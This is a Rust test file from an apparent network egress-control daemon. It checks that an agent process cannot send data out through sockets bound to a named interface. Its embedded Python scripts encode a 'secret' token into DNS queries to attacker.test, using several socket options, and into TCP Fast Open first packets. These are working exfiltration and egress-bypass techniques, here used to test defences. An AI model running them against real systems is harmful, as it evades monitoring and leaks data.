//! Tricks with interfaces: what is led to the daemon does not leave by one that a socket names.

use harness::capture::Capture;
use harness::stage::{BIGQUERY4, BIGQUERY6, OTHER4, OTHER6, Side};
use harness::world::{AGENT_UID, Who, World};
use serde_json::Value;

use super::shown::{nothing_on, on_record};
use super::{EPERM, agents, cases, said};

/// Asks a name server of each family for a name that carries something out, over a socket that names the interface `wire0`: once in each way that
/// takes no capability. Prints a line for each, with what it was told.
const ASKS: &str = r#"
import socket, struct, sys
index = socket.if_nametoindex("wire0")
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
def asked(family, address, how):
    text, with_it = question(f"c2VjcmV0-{how}.attacker.test"), []
    s = socket.socket(family, socket.SOCK_DGRAM)
    is_4 = family == socket.AF_INET
    if how == "device" or how == "connected":
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wire0\0")
    elif how == "unicast":
        s.setsockopt(*((0, 50) if is_4 else (41, 76)), struct.pack("!I", index))
    elif how == "pktinfo":
        with_it = [(0, 8, struct.pack("I", index) + bytes(8)) if is_4 else (41, 50, bytes(16) + struct.pack("I", index))]
    if how == "connected":
        s.connect((address, 53)); s.send(text)
    else:
        s.sendmsg([text], with_it, 0, (address, 53))
for family, address in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, sys.argv[2])):
    for how in ("device", "unicast", "pktinfo", "connected"):
        try:
            asked(family, address, how); print("sent")
        except OSError as error:
            print(error.strerror or error)
"#;

/// Makes connections from sockets that are bound to `wire0`, with data in the first packet, to each address and port that is given.
const DATA_AT_ONCE: &str = r#"
import socket, sys
for address, port in zip(sys.argv[1::2], sys.argv[2::2]):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_STREAM); s.settimeout(0.5)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wire0\0")
    # Without a cookie from before (TCP_FASTOPEN_NO_COOKIE).
    s.setsockopt(6, 34, 1)
    try:
        s.sendto(b"c2VjcmV0-at-once", socket.MSG_FASTOPEN, (address, int(port)))
    except OSError:
        pass
"#;

/// A record of the program that keeps such packets in.
fn kept_in(event: &Value) -> bool {
    event["verdict"] == "egress refused: what is led to the daemon does not leave by an interface"
}

fn is_kept_in(world: &World, is_wanted: impl Fn(&Value) -> bool) {
    harness::world::wait_for("the record", || {
        let refused = world.events("kernel_refused");
        refused
            .iter()
            .any(|event| kept_in(event) && is_wanted(event))
    });
    on_record();
}

/// A world in which the agent is told only the names on its list, and explained to; with a sniffer for what carries the word, and for what is
/// for the loopback.
fn world() -> (World, Capture, Capture) {
    let mut world = World::with_a_silent_far_side();
    world.edit_config("uid = 2001", "uid = 2001\ndns = \"strict\"");
    world.start_daemon();
    let word = Capture::of_text(&world.stage, ["c2VjcmV0".to_owned()]);
    let loopback = ["127.0.0.1", "::1"].map(|address| address.parse().expect("an address"));
    let loopback = Capture::start(&world.stage, loopback);
    (world, word, loopback)
}

/// Runs a script as the agent, or as a user who is none.
fn run(world: &World, is_agents: bool, script: &str, args: &[&str]) -> String {
    let (cgroup, uid) = if is_agents {
        (world.cgroup_of(Who::Agent), AGENT_UID)
    } else {
        (world.stage.cgroups.make("other"), 3001)
    };
    let mut command =
        world
            .stage
            .command_in(Side::Host, Some(&cgroup), Some(uid), "/usr/bin/python3");
    said(command.args(["-c", script]).args(args))
}

cases! {
    /// data in the names that are asked for over a socket that names an interface: bound to a device, or by `IP_UNICAST_IF` or `IP_PKTINFO`
    35 Refused fn a_question_does_not_leave_by_an_interface_that_is_named() {
        let (world, word, loopback) = world();
        let servers = [OTHER4.to_string(), OTHER6.to_string()];
        let servers = servers.each_ref().map(String::as_str);
        // The ways are ways: for who is no agent, nothing of this is led anywhere.
        assert_eq!(run(&world, false, ASKS, &servers), ["sent"; 8].join("\n"));
        assert_eq!(word.packets(), 8);
        assert_eq!(run(&world, true, ASKS, &servers), [EPERM; 8].join("\n"));
        assert_eq!(word.packets(), 8, "and no more");
        nothing_on(&loopback, "a question for the daemon");
        for family in ["127.0.0.1", "::1"] {
            is_kept_in(&world, |event| agents(event) && event["destination"].to_string().contains(family));
        }
    }

    /// data with the first packet of a connection that is bound to a device: to BigQuery, or to a name server
    5 Refused fn data_with_the_first_packet_does_not_leave_by_an_interface_that_is_named() {
        let (world, word, loopback) = world();
        let (v4, v6, other) = (BIGQUERY4.to_string(), BIGQUERY6.to_string(), OTHER4.to_string());
        run(&world, false, DATA_AT_ONCE, &[&other, "53"]);
        assert!(word.packets() > 0, "the way is one");
        let before = word.settled();
        run(&world, true, DATA_AT_ONCE, &[&v4, "443", &v6, "443", &other, "53"]);
        is_kept_in(&world, agents);
        // Other names answer at these addresses too, so everybody is led to the proxy from there.
        run(&world, false, DATA_AT_ONCE, &[&v4, "443", &v6, "443"]);
        is_kept_in(&world, |event| event["agent"].is_null());
        assert_eq!(word.settled(), before, "no more carries the word");
        nothing_on(&loopback, "a first packet for the daemon");
    }
}
